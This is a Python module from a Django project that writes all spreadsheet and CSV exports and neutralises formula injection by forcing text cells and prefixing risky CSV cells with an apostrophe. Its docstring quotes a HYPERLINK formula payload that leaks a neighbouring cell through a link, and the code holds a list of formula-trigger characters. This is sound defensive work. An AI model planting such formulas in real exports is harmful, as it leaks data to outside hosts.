"""The one spreadsheet writer of the project: every .xlsx and .csv that leaves whistle goes through here.

Why one: text a user typed (a case title, a reason, a name) must reach a coordinator's Excel as text. xlsxwriter's
generic `write()` turns a string that starts with "=" into a live formula, so a title such as
`=HYPERLINK("http://…?"&B2,"点我")` became a link that leaks the neighbouring cell (security issue 13.2). Here a
string is always written with `write_string`; numbers, dates and booleans keep their types. In CSV, where every
cell is text and Excel evaluates a leading = + - @ (and a leading tab or carriage return hides one), such a cell
gets a leading apostrophe, the mark Excel itself uses for "this is text".

A sheet that would pass Excel's row limit continues on a new sheet (`台账-1`, `台账-2` …) with the header
repeated, never cut silently.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import IO, Any

import xlsxwriter
from django.utils import timezone

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv"
# Rows of one worksheet in Excel (header included). Callers pass a lower limit in tests.
EXCEL_MAX_ROWS = 1_048_576
# First characters that make Excel (or LibreOffice) read a CSV cell as a formula: OWASP's list.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _local(moment: dt.datetime) -> dt.datetime:
    """Excel has no time zones: a moment is shown in the city's local time."""
    return timezone.localtime(moment).replace(tzinfo=None) if timezone.is_aware(moment) else moment


class Sheet:
    """One logical sheet: rows go on `ws`, and past `max_rows` on the next part with the header again."""

    def __init__(
        self,
        book: Book,
        name: str,
        header: Sequence[str],
        *,
        parts: bool,
        max_rows: int,
        widths: dict[int, float] | None = None,
    ):
        self.book, self.name, self.header, self.max_rows, self.widths = book, name, list(header), max_rows, widths or {}
        self.part = 0
        self.parts = parts
        self.ws: Any = None  # an xlsxwriter Worksheet, from the first _next_part on
        self.r = 0
        self._next_part()

    def _next_part(self):
        self.part += 1
        title = f"{self.name}-{self.part}" if self.parts else self.name
        if self.part > 1 and not self.parts:
            raise ValueError(f"工作表“{self.name}”超过 {self.max_rows} 行")
        self.ws = self.book.book.add_worksheet(title[:31])
        self.r = 0
        if self.header:
            self.ws.write_row(0, 0, self.header, self.book.bold)
            self.ws.freeze_panes(1, 0)
            self.r = 1
        for column, width in self.widths.items():
            self.ws.set_column(column, column, width)

    def row(self, values: Iterable) -> None:
        if self.r >= self.max_rows:
            self._next_part()
        for c, value in enumerate(values):
            self.book.cell(self.ws, self.r, c, value)
        self.r += 1

    def rows(self, rows: Iterable[Iterable]) -> None:
        for values in rows:
            self.row(values)

    def notes(self, hints: Sequence[str]) -> None:
        """A note on each header cell (what to fill in), for a template people fill."""
        for c, hint in enumerate(hints):
            if hint:
                self.ws.write_comment(0, c, hint)

    def text_columns(self, count: int, width: float) -> None:
        """The first `count` columns typed as text, so what a person types (a phone number, a code) stays text."""
        self.ws.set_column(0, count - 1, width, self.book.text)


class Book:
    """An .xlsx workbook written to `target` (a binary file object; a BytesIO when none is given).

    `constant_memory` streams rows to disk (for exports of any length); rows must then be written in order."""

    def __init__(
        self, target: IO[bytes] | None = None, *, constant_memory: bool = False, max_rows: int = EXCEL_MAX_ROWS
    ):
        self.target = target if target is not None else io.BytesIO()
        options = {
            "remove_timezone": True,
            "strings_to_formulas": False,
            "strings_to_urls": False,
            "strings_to_numbers": False,
        }
        options["constant_memory" if constant_memory else "in_memory"] = True
        self.book = xlsxwriter.Workbook(self.target, options)
        self.max_rows = max_rows
        self.bold = self.book.add_format({"bold": True})
        self.when = self.book.add_format({"num_format": "yyyy-mm-dd hh:mm"})
        self.day = self.book.add_format({"num_format": "yyyy-mm-dd"})
        self.text = self.book.add_format({"num_format": "@"})

    def sheet(
        self, name: str, header: Sequence[str] = (), *, rows: int | None = None, widths: dict[int, float] | None = None
    ) -> Sheet:
        """A new sheet. `rows`: how many data rows will come, when known; a sheet that will not fit is written
        as `name-1`, `name-2` … from the start (an unknown length that overflows raises instead of cutting)."""
        parts = rows is not None and rows + (1 if header else 0) > self.max_rows
        return Sheet(self, name, header, parts=parts, max_rows=self.max_rows, widths=widths)

    def table(self, name: str, header: Sequence[str], rows: Sequence[Sequence], **kwargs) -> Sheet:
        """A whole sheet from a list of rows."""
        sheet = self.sheet(name, header, rows=len(rows), **kwargs)
        sheet.rows(rows)
        return sheet

    def cell(self, ws, r: int, c: int, value) -> None:
        if value is None or value == "":
            ws.write_blank(r, c, None)
        elif isinstance(value, bool):
            ws.write_string(r, c, "是" if value else "否")
        elif isinstance(value, (int, float, Decimal)):
            ws.write_number(r, c, float(value) if isinstance(value, Decimal) else value)
        elif isinstance(value, dt.datetime):
            ws.write_datetime(r, c, _local(value), self.when)
        elif isinstance(value, dt.date):
            ws.write_datetime(r, c, dt.datetime.combine(value, dt.time()), self.day)
        else:
            ws.write_string(r, c, str(value))

    def close(self) -> bytes | None:
        """Finish the file; returns its bytes when it was written to memory."""
        self.book.close()
        if isinstance(self.target, io.BytesIO):
            return self.target.getvalue()
        return None


def workbook(sheets: Sequence[tuple[str, Sequence[str], Sequence[Sequence]]]) -> bytes:
    """A small workbook in memory: [(sheet name, header, rows)]."""
    book = Book()
    for name, header, rows in sheets:
        book.table(name, header, rows)
    data = book.close()
    assert data is not None  # Book() writes to memory
    return data


# ---- CSV -------------------------------------------------------------------------------------------------------


def csv_text(value) -> str:
    """One CSV cell as text, neutralised so a spreadsheet never evaluates it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, dt.datetime):
        return _local(value).strftime("%Y-%m-%d %H:%M")
    if isinstance(value, (int, float, Decimal, dt.date)):
        return str(value)  # a negative number stays a number
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class CsvWriter:
    """`csv.writer` with every text cell neutralised (see `csv_text`)."""

    def __init__(self, stream: IO[str], **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, values: Iterable) -> None:
        self._writer.writerow([csv_text(v) for v in values])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for values in rows:
            self.writerow(values)


def csv_writer(stream: IO[str], **kwargs) -> CsvWriter:
    return CsvWriter(stream, **kwargs)
